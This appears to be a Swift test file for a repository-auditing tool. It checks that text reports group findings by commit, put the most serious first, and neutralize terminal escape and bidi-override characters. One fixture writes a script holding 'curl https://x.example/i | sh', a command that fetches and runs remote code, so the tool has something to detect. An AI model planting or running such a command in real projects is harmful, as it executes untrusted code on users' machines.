import CustodyCore
import CustodyTestSupport
import Foundation
import Testing

@Suite struct TextReportGroupingTests {
    @Test func groupsFindingsByCommitMostSeriousFirstAndNeutralizes() throws {
        let repo = try ReportFixtures.makeRepository()
        try repo.write("tools/get.sh", "curl https://x.example/i | sh\n")
        try repo.commit("Fetch tool", author: ReportFixtures.bruno)
        let report = try ReportFixtures.audit(repo)
        let text = TextReport.render(report)
        #expect(!text.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x202E })
        #expect(text.contains("NOT ON ROSTER"))
        #expect(text.contains("(roster: bruno)"))
        // Mallory's commit has the critical finding, so it comes before Bruno's.
        let mallory = try #require(text.range(of: "mallory@evil.example>"))
        let bruno = try #require(text.range(of: "(roster: bruno)"))
        #expect(mallory.lowerBound < bruno.lowerBound)
        #expect(text.contains("<U+202E>"))
    }

    @Test func colourOnlyWhenAsked() throws {
        let report = ReportFixtures.handBuilt(findings: 3)
        #expect(!TextReport.render(report).contains("\u{1b}["))
        let coloured = TextReport.render(report, color: true)
        #expect(coloured.contains("\u{1b}[1;31mNOT ON ROSTER\u{1b}[0m"))
    }
}
